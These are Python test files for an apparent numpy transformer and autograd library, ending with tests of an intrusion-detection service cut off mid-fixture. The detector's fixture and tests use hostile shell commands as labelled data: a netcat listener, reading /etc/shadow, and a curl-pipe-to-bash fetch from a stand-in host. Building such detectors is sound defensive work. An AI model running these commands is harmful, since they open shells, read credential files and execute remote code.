        plan = InferencePlan.compile(model)
        rng = np.random.default_rng(7)
        for _ in range(3):
            ids, mask = random_batch(model, 3, 9, rng)
            got = plan.forward(ids, mask).copy()
            with no_grad(model):
                want = model(ids, mask).data
            assert np.array_equal(got, want)
        assert plan.scratch_buckets == 1  # one (3, 9) bucket, reused
        assert plan.calls == 3


class TestFloat32Tolerance:
    @given(geometry)
    @settings(max_examples=15, deadline=None)
    def test_pooled_within_tolerance(self, geom):
        heads, head_dim, layers, batch, seq, seed = geom
        model = build_model(
            n_heads=heads, head_dim=head_dim, n_layers=layers, seed=seed % 1000
        )
        rng = np.random.default_rng(seed)
        ids, mask = random_batch(model, batch, seq, rng)
        plan = InferencePlan.compile(model, precision="float32")
        got = plan.pooled(ids, mask).copy()
        assert got.dtype == np.float32
        with no_grad(model):
            want = pool(model(ids, mask), mask, "mean").data
        # post-LayerNorm activations are O(1); 1e-4 absolute is ~1000 ulp
        # of float32 headroom across two blocks of accumulated rounding
        np.testing.assert_allclose(got, want, atol=1e-4, rtol=1e-3)


class TestCompileSurface:
    def test_rejects_subclassed_model(self):
        class Tweaked(CommandLineLM):
            pass

        model = Tweaked(LMConfig.tiny(vocab_size=50))
        with pytest.raises(InferenceCompileError, match="outside the compiled"):
            InferencePlan.compile(model)

    def test_rejects_subclassed_block_module(self):
        model = build_model()

        class NoisyDropout(Dropout):
            pass

        model.encoder.blocks[0].dropout1 = NoisyDropout(0.0)
        with pytest.raises(InferenceCompileError):
            InferencePlan.compile(model)

    def test_rejects_bias_free_projection(self):
        model = build_model()
        block = model.encoder.blocks[0]
        rng = np.random.default_rng(0)
        d = model.config.hidden_size
        block.attention.query = Linear(d, d, rng, bias=False)
        with pytest.raises(InferenceCompileError, match="no bias"):
            InferencePlan.compile(model)

    def test_rejects_unknown_precision(self):
        with pytest.raises(ValueError, match="precision"):
            InferencePlan.compile(build_model(), precision="float16")

    def test_forward_validates_shape_and_ids(self):
        plan = InferencePlan.compile(build_model(max_position=8))
        with pytest.raises(ValueError, match="batch, seq"):
            plan.forward(np.zeros(4, dtype=np.int64))
        with pytest.raises(ValueError, match="max_position"):
            plan.forward(np.zeros((1, 9), dtype=np.int64))
        with pytest.raises(IndexError, match="out of range"):
            plan.forward(np.full((1, 4), 10_000, dtype=np.int64))

    def test_scratch_buckets_are_lru_bounded(self):
        model = build_model(max_position=64)
        plan = InferencePlan.compile(model)
        for seq in range(1, _MAX_SCRATCH_BUCKETS + 10):
            plan.forward(np.zeros((1, seq), dtype=np.int64))
        assert plan.scratch_buckets == _MAX_SCRATCH_BUCKETS

    def test_describe_names_precision_and_geometry(self):
        plan = InferencePlan.compile(build_model(), precision="float32")
        assert "float32" in plan.describe()
        assert "2x16d" in plan.describe()


class TestEvalFastPath:
    """Satellite: dropout must vanish in eval mode, not sample-and-scale."""

    def test_eval_dropout_returns_input_object(self):
        layer = Dropout(0.5, np.random.default_rng(0))
        layer.eval()
        x = Tensor(np.ones((3, 3)))
        assert layer(x) is x  # identity, not a new node on the tape

    def test_zero_p_dropout_returns_input_object_even_training(self):
        layer = Dropout(0.0, np.random.default_rng(0))
        layer.train()
        x = Tensor(np.ones((3, 3)))
        assert layer(x) is x

    def test_training_dropout_still_masks(self):
        layer = Dropout(0.5, np.random.default_rng(0))
        layer.train()
        x = Tensor(np.ones((64, 64)))
        out = layer(x)
        assert out is not x
        assert (out.data == 0.0).any()

    def test_eval_attention_never_draws_from_dropout_rng(self):
        model = build_model()
        rng_states_before = [
            block.attention.attn_dropout._rng.bit_generator.state
            for block in model.encoder.blocks
        ]
        ids = np.zeros((2, 5), dtype=np.int64)
        with no_grad(model):
            model(ids, np.ones((2, 5), dtype=bool))
        rng_states_after = [
            block.attention.attn_dropout._rng.bit_generator.state
            for block in model.encoder.blocks
        ]
        assert rng_states_before == rng_states_after

    def test_eval_forward_unchanged_by_fast_path(self):
        # the fast path must be an optimization, not a numerics change:
        # eval dropout used to multiply by a mask of ones — same bits
        model = build_model()
        ids = np.arange(10, dtype=np.int64).reshape(2, 5)
        mask = np.ones((2, 5), dtype=bool)
        with no_grad(model):
            first = model(ids, mask).data.copy()
            second = model(ids, mask).data.copy()
        assert np.array_equal(first, second)


class TestPlanIsGraphFree:
    def test_forward_builds_no_tape(self):
        model = build_model()
        plan = InferencePlan.compile(model)
        ids = np.zeros((1, 4), dtype=np.int64)
        out = plan.forward(ids, np.ones((1, 4), dtype=bool))
        assert isinstance(out, np.ndarray)
        assert not isinstance(out, _Tensor)

    def test_weights_are_snapshots(self):
        model = build_model()
        plan = InferencePlan.compile(model)
        ids = np.zeros((1, 4), dtype=np.int64)
        mask = np.ones((1, 4), dtype=bool)
        before = plan.forward(ids, mask).copy()
        model.token_embedding.weight.data += 1.0  # "training" after compile
        after = plan.forward(ids, mask).copy()
        assert np.array_equal(before, after)  # the plan kept its snapshot
