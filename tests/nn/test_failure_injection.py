"""Failure-injection tests: corrupted state, hostile inputs, misuse."""

import numpy as np
import pytest

from repro.errors import CheckpointError, NotFittedError
from repro.nn import Linear, Tensor, load_module, save_module
from repro.nn.module import no_grad


class TestCorruptedCheckpoints:
    def test_truncated_npz(self, tmp_path):
        layer = Linear(3, 3, np.random.default_rng(0))
        path = tmp_path / "w.npz"
        save_module(layer, path)
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2])
        with pytest.raises((CheckpointError, Exception)):
            load_module(Linear(3, 3, np.random.default_rng(1)), path)

    def test_nonexistent_path(self, tmp_path):
        with pytest.raises(CheckpointError):
            load_module(Linear(2, 2, np.random.default_rng(0)), tmp_path / "missing.npz")

    def test_extra_keys_rejected(self, tmp_path):
        layer = Linear(2, 2, np.random.default_rng(0))
        state = layer.state_dict()
        state["bogus"] = np.zeros(3)
        np.savez(tmp_path / "w.npz", **state)
        with pytest.raises(CheckpointError):
            load_module(Linear(2, 2, np.random.default_rng(1)), tmp_path / "w.npz")


class TestHostileInputs:
    def test_nan_inputs_do_not_crash_forward(self):
        layer = Linear(3, 3, np.random.default_rng(0))
        out = layer(Tensor(np.full((1, 3), np.nan)))
        assert np.isnan(out.data).all()

    def test_huge_values_overflow_gracefully(self):
        from repro.nn import functional as F

        out = F.softmax(Tensor(np.array([[1e300, -1e300, 0.0]])))
        assert np.isfinite(out.data).all()
        np.testing.assert_allclose(out.data.sum(), 1.0)

    def test_empty_tensor_ops(self):
        x = Tensor(np.zeros((0, 3)), requires_grad=True)
        (x * 2).sum().backward()
        assert x.grad.shape == (0, 3)


class TestNoGradContext:
    def test_restores_flags_after_exception(self):
        layer = Linear(2, 2, np.random.default_rng(0))
        with pytest.raises(RuntimeError):
            with no_grad(layer):
                assert not layer.weight.requires_grad
                raise RuntimeError("boom")
        assert layer.weight.requires_grad

    def test_nested_modules(self):
        a = Linear(2, 2, np.random.default_rng(0))
        b = Linear(2, 2, np.random.default_rng(1))
        with no_grad(a, b):
            assert not a.weight.requires_grad
            assert not b.weight.requires_grad
        assert a.weight.requires_grad and b.weight.requires_grad
