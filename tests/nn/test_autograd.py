"""Gradient checks for every autograd primitive."""

import numpy as np
import pytest

from repro.nn import Tensor, check_gradient
from repro.nn import functional as F

RNG = np.random.default_rng(1234)


def assert_gradcheck(fn, shape, **kwargs):
    ok, diff = check_gradient(fn, RNG.normal(size=shape), **kwargs)
    assert ok, f"gradient mismatch: max abs diff {diff:.3e}"


class TestArithmetic:
    def test_add(self):
        other = Tensor(RNG.normal(size=(3, 4)))
        assert_gradcheck(lambda t: (t + other).sum(), (3, 4))

    def test_add_broadcast(self):
        other = Tensor(RNG.normal(size=(4,)))
        assert_gradcheck(lambda t: (t + other).sum(), (3, 4))

    def test_add_broadcast_to_small(self):
        other = Tensor(RNG.normal(size=(3, 4)))
        assert_gradcheck(lambda t: (t + other).sum(), (4,))

    def test_sub(self):
        other = Tensor(RNG.normal(size=(3, 4)))
        assert_gradcheck(lambda t: (other - t * 2).sum(), (3, 4))

    def test_mul(self):
        other = Tensor(RNG.normal(size=(3, 4)))
        assert_gradcheck(lambda t: (t * other).sum(), (3, 4))

    def test_div(self):
        other = Tensor(np.abs(RNG.normal(size=(3, 4))) + 1.0)
        assert_gradcheck(lambda t: (t / other).sum(), (3, 4))

    def test_rdiv(self):
        assert_gradcheck(lambda t: (2.0 / (t * t + 1.0)).sum(), (3,))

    def test_pow(self):
        assert_gradcheck(lambda t: ((t * t + 1.0) ** 3).sum(), (3, 4))

    def test_neg(self):
        assert_gradcheck(lambda t: (-t).sum(), (5,))

    def test_scalar_ops(self):
        assert_gradcheck(lambda t: (t * 3.0 + 2.0 - 0.5).sum(), (2, 2))


class TestMatmul:
    def test_mat_mat(self):
        other = Tensor(RNG.normal(size=(4, 2)))
        assert_gradcheck(lambda t: (t @ other).sum(), (3, 4))

    def test_mat_mat_right(self):
        other = Tensor(RNG.normal(size=(5, 3)))
        assert_gradcheck(lambda t: (other @ t).sum(), (3, 4))

    def test_batched(self):
        other = Tensor(RNG.normal(size=(2, 4, 3)))
        assert_gradcheck(lambda t: (t @ other).sum(), (2, 5, 4))

    def test_broadcast_weight(self):
        x = Tensor(RNG.normal(size=(2, 5, 4)))
        assert_gradcheck(lambda t: (x @ t).sum(), (4, 3))

    def test_mat_vec(self):
        vec = Tensor(RNG.normal(size=4))
        assert_gradcheck(lambda t: (t @ vec).sum(), (3, 4))

    def test_vec_input_right(self):
        mat = Tensor(RNG.normal(size=(5, 4)))
        assert_gradcheck(lambda t: (mat @ t).sum(), (4,))

    def test_vec_mat(self):
        vec = Tensor(RNG.normal(size=3))
        assert_gradcheck(lambda t: (vec @ t).sum(), (3, 4))

    def test_vec_vec(self):
        vec = Tensor(RNG.normal(size=4))
        assert_gradcheck(lambda t: t @ vec, (4,))

    def test_batched_mat_vec(self):
        vec = Tensor(RNG.normal(size=4))
        assert_gradcheck(lambda t: (t @ vec).sum(), (2, 3, 4))


class TestShapes:
    def test_reshape(self):
        weight = Tensor(RNG.normal(size=6))
        assert_gradcheck(lambda t: (t.reshape(6) * weight).sum(), (2, 3))

    def test_transpose(self):
        other = Tensor(RNG.normal(size=(4, 3)))
        assert_gradcheck(lambda t: (t.transpose() * other).sum(), (3, 4))

    def test_transpose_axes(self):
        other = Tensor(RNG.normal(size=(4, 2, 3)))
        assert_gradcheck(lambda t: (t.transpose(2, 0, 1) * other).sum(), (2, 3, 4))

    def test_swapaxes(self):
        other = Tensor(RNG.normal(size=(4, 3, 2)))
        assert_gradcheck(lambda t: (t.swapaxes(0, 2) * other).sum(), (2, 3, 4))

    def test_getitem_slice(self):
        assert_gradcheck(lambda t: (t[1:3] ** 2).sum(), (5, 2))

    def test_getitem_fancy(self):
        idx = np.array([0, 2, 2])
        assert_gradcheck(lambda t: (t[idx] ** 2).sum(), (4, 3))


class TestReductions:
    def test_sum_all(self):
        assert_gradcheck(lambda t: (t * t).sum(), (3, 4))

    def test_sum_axis(self):
        weight = Tensor(RNG.normal(size=3))
        assert_gradcheck(lambda t: (t.sum(axis=1) * weight).sum(), (3, 4))

    def test_sum_keepdims(self):
        assert_gradcheck(lambda t: (t - t.sum(axis=1, keepdims=True)).sum() + (t * t).sum(), (3, 4))

    def test_mean(self):
        assert_gradcheck(lambda t: (t.mean(axis=0) ** 2).sum(), (3, 4))

    def test_mean_all(self):
        assert_gradcheck(lambda t: (t * t).mean(), (3, 4))

    def test_max(self):
        # use distinct values to avoid tie-splitting subgradient issues
        base = np.arange(12, dtype=float).reshape(3, 4)
        ok, diff = check_gradient(lambda t: t.max(axis=1).sum(), base)
        assert ok, diff


class TestNonlinearities:
    def test_exp(self):
        assert_gradcheck(lambda t: t.exp().sum(), (3, 3))

    def test_log(self):
        value = np.abs(RNG.normal(size=(3, 3))) + 0.5
        ok, diff = check_gradient(lambda t: t.log().sum(), value)
        assert ok, diff

    def test_sqrt(self):
        value = np.abs(RNG.normal(size=(3,))) + 0.5
        ok, diff = check_gradient(lambda t: t.sqrt().sum(), value)
        assert ok, diff

    def test_tanh(self):
        assert_gradcheck(lambda t: t.tanh().sum(), (3, 3))

    def test_relu(self):
        value = RNG.normal(size=(4, 4)) + 0.05  # avoid kink at 0
        ok, diff = check_gradient(lambda t: t.relu().sum(), value)
        assert ok, diff

    def test_sigmoid(self):
        assert_gradcheck(lambda t: t.sigmoid().sum(), (3, 3))

    def test_gelu(self):
        assert_gradcheck(lambda t: F.gelu(t).sum(), (3, 4))


class TestFusedOps:
    def test_softmax(self):
        weight = Tensor(RNG.normal(size=(2, 5)))
        assert_gradcheck(lambda t: (F.softmax(t) * weight).sum(), (2, 5))

    def test_softmax_axis0(self):
        weight = Tensor(RNG.normal(size=(4, 3)))
        assert_gradcheck(lambda t: (F.softmax(t, axis=0) * weight).sum(), (4, 3))

    def test_log_softmax(self):
        weight = Tensor(RNG.normal(size=(2, 5)))
        assert_gradcheck(lambda t: (F.log_softmax(t) * weight).sum(), (2, 5))

    def test_cross_entropy(self):
        targets = np.array([1, 0, 3])
        assert_gradcheck(lambda t: F.cross_entropy(t, targets), (3, 4))

    def test_cross_entropy_ignore_index(self):
        targets = np.array([1, -100, 3])
        assert_gradcheck(lambda t: F.cross_entropy(t, targets, ignore_index=-100), (3, 4))

    def test_cross_entropy_all_ignored_is_zero(self):
        logits = Tensor(RNG.normal(size=(2, 3)), requires_grad=True)
        loss = F.cross_entropy(logits, np.array([-100, -100]), ignore_index=-100)
        assert loss.item() == 0.0
        loss.backward()
        assert np.allclose(logits.grad, 0.0)

    def test_bce_with_logits(self):
        targets = np.array([1.0, 0.0, 1.0, 0.0])
        assert_gradcheck(lambda t: F.binary_cross_entropy_with_logits(t, targets), (4,))

    def test_layer_norm(self):
        gamma = Tensor(RNG.normal(size=5))
        beta = Tensor(RNG.normal(size=5))
        assert_gradcheck(lambda t: (F.layer_norm(t, gamma, beta) ** 2).sum(), (3, 5))

    def test_layer_norm_gamma_grad(self):
        x = Tensor(RNG.normal(size=(3, 5)))
        ok, diff = check_gradient(
            lambda g: (F.layer_norm(x, g, Tensor(np.zeros(5))) ** 2).sum(), RNG.normal(size=5)
        )
        assert ok, diff

    def test_embedding(self):
        ids = np.array([[0, 2], [1, 1]])
        assert_gradcheck(lambda w: (F.embedding(w, ids) ** 2).sum(), (4, 3))

    def test_concatenate(self):
        other = Tensor(RNG.normal(size=(2, 3)))
        assert_gradcheck(lambda t: (F.concatenate([t, other], axis=0) ** 2).sum(), (2, 3))

    def test_stack(self):
        other = Tensor(RNG.normal(size=(2, 3)))
        assert_gradcheck(lambda t: (F.stack([t, other], axis=1) ** 2).sum(), (2, 3))

    def test_add_bias_constant_not_differentiated(self):
        bias = np.full((2, 3), 5.0)
        assert_gradcheck(lambda t: (F.add_bias(t, bias) ** 2).sum(), (2, 3))

    def test_dropout_eval_is_identity(self):
        x = Tensor(RNG.normal(size=(4, 4)), requires_grad=True)
        out = F.dropout(x, 0.5, np.random.default_rng(0), training=False)
        assert out is x

    def test_dropout_scales_by_keep_probability(self):
        rng = np.random.default_rng(7)
        x = Tensor(np.ones((1000,)))
        out = F.dropout(x, 0.25, rng, training=True)
        kept = out.data[out.data > 0]
        assert np.allclose(kept, 1.0 / 0.75)

    def test_dropout_invalid_p(self):
        with pytest.raises(ValueError):
            F.dropout(Tensor(np.ones(3)), 1.0, np.random.default_rng(0))


class TestBackwardMechanics:
    def test_grad_accumulates_over_multiple_uses(self):
        x = Tensor(np.array([2.0]), requires_grad=True)
        y = x * 3.0 + x * 4.0
        y.backward()
        assert np.allclose(x.grad, [7.0])

    def test_grad_accumulates_over_backward_calls(self):
        x = Tensor(np.array([2.0]), requires_grad=True)
        (x * 3.0).backward()
        (x * 4.0).backward()
        assert np.allclose(x.grad, [7.0])

    def test_no_grad_without_requires_grad(self):
        x = Tensor(np.ones(3))
        y = (x * 2).sum()
        y.backward()
        assert x.grad is None

    def test_detach_stops_gradient(self):
        x = Tensor(np.ones(3), requires_grad=True)
        y = (x.detach() * 2).sum()
        y.backward()
        assert x.grad is None

    def test_diamond_graph(self):
        x = Tensor(np.array([3.0]), requires_grad=True)
        a = x * 2
        b = x + 1
        y = a * b  # y = 2x(x+1) = 2x^2+2x; dy/dx = 4x+2 = 14
        y.backward()
        assert np.allclose(x.grad, [14.0])

    def test_item_raises_on_non_scalar(self):
        with pytest.raises(ValueError):
            Tensor(np.ones(3)).item()

    def test_deep_chain_no_recursion_error(self):
        x = Tensor(np.array([1.0]), requires_grad=True)
        y = x
        for _ in range(2000):
            y = y + 0.001
        y.backward()
        assert np.allclose(x.grad, [1.0])
