"""Property-based tests (hypothesis) for autograd invariants."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.numpy import array_shapes, arrays

from repro.nn import Tensor
from repro.nn import functional as F

finite_floats = st.floats(min_value=-10, max_value=10, allow_nan=False, allow_infinity=False)


def small_arrays(max_dims=2, max_side=5):
    return arrays(
        dtype=np.float64,
        shape=array_shapes(min_dims=1, max_dims=max_dims, min_side=1, max_side=max_side),
        elements=finite_floats,
    )


@given(small_arrays())
@settings(max_examples=50, deadline=None)
def test_softmax_rows_sum_to_one(values):
    out = F.softmax(Tensor(values), axis=-1)
    np.testing.assert_allclose(out.data.sum(axis=-1), 1.0, atol=1e-9)


@given(small_arrays())
@settings(max_examples=50, deadline=None)
def test_softmax_invariant_to_shift(values):
    a = F.softmax(Tensor(values), axis=-1).data
    b = F.softmax(Tensor(values + 100.0), axis=-1).data
    np.testing.assert_allclose(a, b, atol=1e-9)

@given(small_arrays())
@settings(max_examples=50, deadline=None)
def test_log_softmax_matches_log_of_softmax(values):
    log_direct = F.log_softmax(Tensor(values), axis=-1).data
    log_composed = np.log(F.softmax(Tensor(values), axis=-1).data + 1e-300)
    np.testing.assert_allclose(log_direct, log_composed, atol=1e-6)


@given(small_arrays(max_dims=2))
@settings(max_examples=50, deadline=None)
def test_addition_gradient_is_ones(values):
    x = Tensor(values, requires_grad=True)
    (x + 1.0).sum().backward()
    np.testing.assert_allclose(x.grad, np.ones_like(values))


@given(small_arrays(max_dims=2))
@settings(max_examples=50, deadline=None)
def test_sum_then_backward_matches_elementwise_count(values):
    x = Tensor(values, requires_grad=True)
    (x * 2.0 + x).sum().backward()
    np.testing.assert_allclose(x.grad, np.full_like(values, 3.0))


@given(small_arrays(max_dims=2), finite_floats)
@settings(max_examples=50, deadline=None)
def test_linear_in_gradient(values, scale):
    x1 = Tensor(values, requires_grad=True)
    (x1 * scale).sum().backward()
    np.testing.assert_allclose(x1.grad, np.full_like(values, scale), atol=1e-9)


@given(st.integers(min_value=1, max_value=6), st.integers(min_value=1, max_value=6))
@settings(max_examples=30, deadline=None)
def test_matmul_grad_shapes(m, n):
    rng = np.random.default_rng(0)
    a = Tensor(rng.normal(size=(m, 4)), requires_grad=True)
    b = Tensor(rng.normal(size=(4, n)), requires_grad=True)
    (a @ b).sum().backward()
    assert a.grad.shape == a.shape
    assert b.grad.shape == b.shape


@given(small_arrays(max_dims=2))
@settings(max_examples=50, deadline=None)
def test_layer_norm_output_statistics(values):
    if values.shape[-1] < 2 or np.ptp(values) < 1e-6:
        return  # degenerate rows have undefined normalized variance
    gamma = Tensor(np.ones(values.shape[-1]))
    beta = Tensor(np.zeros(values.shape[-1]))
    out = F.layer_norm(Tensor(values), gamma, beta).data
    np.testing.assert_allclose(out.mean(axis=-1), 0.0, atol=1e-7)


@given(arrays(np.float64, st.integers(2, 20).map(lambda n: (n,)), elements=finite_floats))
@settings(max_examples=50, deadline=None)
def test_reshape_roundtrip_preserves_grad(values):
    x = Tensor(values, requires_grad=True)
    x.reshape(-1, 1).reshape(values.shape[0]).sum().backward()
    np.testing.assert_allclose(x.grad, np.ones_like(values))
