"""Tests for optimizers and LR schedules."""

import numpy as np
import pytest

from repro.nn import (
    SGD,
    AdamW,
    ConstantSchedule,
    CosineSchedule,
    Parameter,
    Tensor,
    WarmupLinearSchedule,
    clip_grad_norm,
)


def quadratic_parameter():
    return Parameter(np.array([5.0, -3.0]))


def loss_of(p):
    return (p * p).sum()


class TestSGD:
    def test_converges_on_quadratic(self):
        p = quadratic_parameter()
        opt = SGD([p], lr=0.1)
        for _ in range(100):
            opt.zero_grad()
            loss_of(p).backward()
            opt.step()
        assert np.abs(p.data).max() < 1e-4

    def test_momentum_accelerates(self):
        def run(momentum):
            p = quadratic_parameter()
            opt = SGD([p], lr=0.02, momentum=momentum)
            for _ in range(30):
                opt.zero_grad()
                loss_of(p).backward()
                opt.step()
            return float(np.abs(p.data).max())

        assert run(0.9) < run(0.0)

    def test_weight_decay_shrinks_parameters(self):
        p = Parameter(np.array([1.0]))
        opt = SGD([p], lr=0.1, weight_decay=0.5)
        opt.zero_grad()
        (p * 0.0).sum().backward()  # zero task gradient
        opt.step()
        assert p.data[0] < 1.0

    def test_invalid_lr(self):
        with pytest.raises(ValueError):
            SGD([quadratic_parameter()], lr=0.0)

    def test_invalid_momentum(self):
        with pytest.raises(ValueError):
            SGD([quadratic_parameter()], lr=0.1, momentum=1.0)

    def test_skips_parameters_without_grad(self):
        p = quadratic_parameter()
        before = p.data.copy()
        SGD([p], lr=0.1).step()
        np.testing.assert_array_equal(p.data, before)


class TestAdamW:
    def test_converges_on_quadratic(self):
        p = quadratic_parameter()
        opt = AdamW([p], lr=0.1, weight_decay=0.0)
        for _ in range(200):
            opt.zero_grad()
            loss_of(p).backward()
            opt.step()
        assert np.abs(p.data).max() < 1e-3

    def test_decoupled_weight_decay(self):
        p = Parameter(np.array([2.0]))
        opt = AdamW([p], lr=0.1, weight_decay=0.1)
        opt.zero_grad()
        (p * 0.0).sum().backward()
        opt.step()
        # pure decay step: p <- p - lr * wd * p
        assert np.isclose(p.data[0], 2.0 - 0.1 * 0.1 * 2.0)

    def test_first_step_magnitude_bounded_by_lr(self):
        # Adam's bias-corrected first step is ~lr regardless of grad scale.
        p = Parameter(np.array([1000.0]))
        opt = AdamW([p], lr=0.01, weight_decay=0.0)
        opt.zero_grad()
        (p * 1e6).sum().backward()
        opt.step()
        assert np.isclose(1000.0 - p.data[0], 0.01, rtol=1e-3)


class TestClipGradNorm:
    def test_clips_to_max_norm(self):
        p = Parameter(np.array([3.0, 4.0]))
        p.grad = np.array([3.0, 4.0])
        norm = clip_grad_norm([p], max_norm=1.0)
        assert np.isclose(norm, 5.0)
        assert np.isclose(np.linalg.norm(p.grad), 1.0)

    def test_no_clip_below_max(self):
        p = Parameter(np.array([0.3, 0.4]))
        p.grad = np.array([0.3, 0.4])
        clip_grad_norm([p], max_norm=1.0)
        np.testing.assert_allclose(p.grad, [0.3, 0.4])

    def test_handles_missing_grads(self):
        p = Parameter(np.array([1.0]))
        assert clip_grad_norm([p], max_norm=1.0) == 0.0


class TestSchedules:
    def test_constant(self):
        schedule = ConstantSchedule(0.1)
        assert schedule.lr_at(0) == schedule.lr_at(1000) == 0.1

    def test_warmup_linear_shape(self):
        schedule = WarmupLinearSchedule(peak_lr=1.0, warmup_steps=10, total_steps=110)
        assert schedule.lr_at(0) == pytest.approx(0.1)
        assert schedule.lr_at(9) == pytest.approx(1.0)
        assert schedule.lr_at(110) == pytest.approx(0.0)
        assert schedule.lr_at(60) == pytest.approx(0.5)

    def test_warmup_validation(self):
        with pytest.raises(ValueError):
            WarmupLinearSchedule(1.0, warmup_steps=20, total_steps=10)

    def test_cosine_endpoints(self):
        schedule = CosineSchedule(peak_lr=1.0, warmup_steps=0, total_steps=100, floor_lr=0.1)
        assert schedule.lr_at(0) == pytest.approx(1.0)
        assert schedule.lr_at(100) == pytest.approx(0.1)
        assert schedule.lr_at(50) == pytest.approx(0.55)

    def test_cosine_monotone_after_warmup(self):
        schedule = CosineSchedule(peak_lr=1.0, warmup_steps=5, total_steps=50)
        values = [schedule.lr_at(step) for step in range(5, 50)]
        assert all(a >= b for a, b in zip(values, values[1:]))
