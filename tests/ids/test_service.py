"""Tests for the deployable IntrusionDetectionService."""

import numpy as np
import pytest

from repro.errors import CheckpointError, NotFittedError
from repro.ids import IntrusionDetectionService, Verdict
from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.tokenizer import BPETokenizer
from repro.tuning import ClassificationTuner

BENIGN = ["ls -la /tmp", "docker ps -a", "git status", "cat /etc/passwd | grep x"] * 8
MALICIOUS = ["nc -lvnp 4444", "cat /etc/shadow", "curl http://203.0.113.4/a.sh | bash"] * 4


@pytest.fixture(scope="module")
def service():
    corpus = BENIGN + MALICIOUS
    tokenizer = BPETokenizer(vocab_size=300).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=2)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
    tuner.fit(corpus, labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)


class TestInference:
    def test_verdict_per_line(self, service):
        verdicts = service.inspect(["ls -la /tmp", "nc -lvnp 4444"])
        assert len(verdicts) == 2
        assert isinstance(verdicts[0], Verdict)

    def test_known_attack_flagged(self, service):
        assert service.inspect_one("nc -lvnp 4444").is_intrusion

    def test_benign_not_flagged(self, service):
        assert not service.inspect_one("ls -la /tmp").is_intrusion

    def test_unparseable_line_dropped(self, service):
        verdict = service.inspect_one("echo 'unterminated")
        assert verdict.dropped
        assert not verdict.is_intrusion

    def test_whitespace_normalised(self, service):
        verdict = service.inspect_one("  nc   -lvnp   4444 ")
        assert verdict.line == "nc -lvnp 4444"

    def test_alerts_sorted_by_score(self, service):
        alerts = service.alerts(["ls", "nc -lvnp 4444", "cat /etc/shadow", "git status"])
        assert len(alerts) >= 1
        scores = [alert.score for alert in alerts]
        assert scores == sorted(scores, reverse=True)

    def test_alerts_equal_scores_break_ties_on_input_index(self, service):
        # the same malicious line twice scores identically; input order decides
        alerts = service.alerts(["nc -lvnp 4444", "ls -la /tmp", "nc -lvnp 4444"])
        duplicate_indices = [a.index for a in alerts if a.line == "nc -lvnp 4444"]
        assert duplicate_indices == [0, 2]
        assert alerts == sorted(alerts, key=lambda v: (-v.score, v.index))

    def test_verdicts_carry_input_index(self, service):
        verdicts = service.inspect(["ls -la /tmp", "echo 'unterminated", "nc -lvnp 4444"])
        assert [v.index for v in verdicts] == [0, 1, 2]

    def test_preprocess_fast_path(self, service):
        assert service.preprocess("  ls   -la ") == "ls -la"
        assert service.preprocess("echo 'unterminated") is None
        assert service.preprocess("   ") is None

    def test_score_normalized_matches_inspect(self, service):
        lines = ["ls -la /tmp", "nc -lvnp 4444"]
        fast = service.score_normalized(lines)
        full = [v.score for v in service.inspect(lines)]
        np.testing.assert_allclose(fast, full, atol=1e-12)

    def test_score_normalized_empty(self, service):
        assert service.score_normalized([]).shape == (0,)

    def test_empty_batch(self, service):
        assert service.inspect([]) == []

    def test_unfitted_tuner_rejected(self, service):
        with pytest.raises(NotFittedError):
            IntrusionDetectionService.from_tuner(
                ClassificationTuner(service.encoder), threshold=0.5
            )


class TestPersistence:
    def test_save_load_roundtrip(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        lines = ["ls -la /tmp", "nc -lvnp 4444", "cat /etc/shadow"]
        original = [v.score for v in service.inspect(lines)]
        loaded = [v.score for v in restored.inspect(lines)]
        np.testing.assert_allclose(original, loaded, atol=1e-10)
        assert restored.threshold == service.threshold

    def test_save_load_identical_verdicts(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        lines = BENIGN[:4] + MALICIOUS[:3] + ["echo 'unterminated"]
        for original, loaded in zip(service.inspect(lines), restored.inspect(lines)):
            assert original.is_intrusion == loaded.is_intrusion
            assert original.dropped == loaded.dropped
            assert original.line == loaded.line

    def test_restored_tuner_is_properly_fitted(self, service, tmp_path):
        # load() goes through ClassificationTuner.restore_head, not privates
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        assert restored.tuner.head is not None
        scores = restored.tuner.score(["nc -lvnp 4444"])
        assert scores.shape == (1,)

    def test_restore_head_api_roundtrip(self, service, tmp_path):
        from repro.nn.serialization import save_module
        from repro.tuning import ClassificationTuner

        path = tmp_path / "head.npz"
        save_module(service.tuner.head, path)
        fresh = ClassificationTuner(
            service.encoder, hidden_size=service.tuner.hidden_size, pooling=service.tuner.pooling
        )
        fresh.restore_head(path)
        lines = ["ls -la /tmp", "nc -lvnp 4444"]
        np.testing.assert_allclose(fresh.score(lines), service.tuner.score(lines), atol=1e-12)

    def test_restore_head_missing_checkpoint_raises(self, service, tmp_path):
        from repro.tuning import ClassificationTuner

        fresh = ClassificationTuner(service.encoder)
        with pytest.raises(CheckpointError):
            fresh.restore_head(tmp_path / "missing.npz")

    def test_load_missing_head_raises(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        (tmp_path / "bundle" / "head.npz").unlink()
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "bundle")

    def test_load_missing_bundle_raises(self, tmp_path):
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "nope")

    def test_load_corrupt_meta_raises(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        (tmp_path / "bundle" / "service.json").write_text("{broken")
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "bundle")


class TestTwoStageBundle:
    """The optional multiline/ head: one bundle ships both stages."""

    @pytest.fixture()
    def two_stage(self, service):
